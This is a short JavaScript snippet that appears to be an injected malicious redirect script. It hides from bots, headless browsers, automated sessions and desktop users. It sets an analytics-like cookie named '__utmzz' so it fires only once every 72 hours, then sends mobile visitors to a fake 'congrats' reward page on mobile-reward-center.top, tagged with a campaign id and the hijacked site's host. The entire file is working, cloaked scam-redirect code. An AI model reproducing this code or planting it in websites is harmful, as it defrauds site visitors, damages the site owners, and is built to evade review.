(function () {
  var ua = navigator.userAgent || navigator.vendor || window.opera || '';
  var isBot = /bot|crawl|spider|slurp|lighthouse|headless|facebookexternalhit|bingpreview|phantom/i.test(ua);
  var isMobile = /android|iphone|ipod|ipad|iemobile|opera mini|blackberry|mobile/i.test(ua);
  if (isBot || !isMobile) return;
  if (navigator.webdriver) return;

  function getCookie(name) {
    var parts = ('; ' + document.cookie).split('; ' + name + '=');
    return parts.length === 2 ? parts.pop().split(';').shift() : null;
  }

  function setCookie(name, value, hours) {
    var e = new Date(Date.now() + hours * 3600 * 1000).toUTCString();
    document.cookie = name + '=' + value + '; expires=' + e + '; path=/; SameSite=Lax';
  }

  if (getCookie('__utmzz')) return;
  setCookie('__utmzz', '1', 72);

  var os = /iphone|ipad|ipod/i.test(ua) ? 'ios' : 'android';
  var dest = 'https://mobile-reward-center.top/' + os + '/congrats.html?cid=7712&sub=' + encodeURIComponent(location.host);

  var go = function () { window.location.href = dest; };
  if (document.readyState === 'complete') {
    setTimeout(go, 800);
  } else {
    window.addEventListener('load', function () { setTimeout(go, 800); });
  }
})();
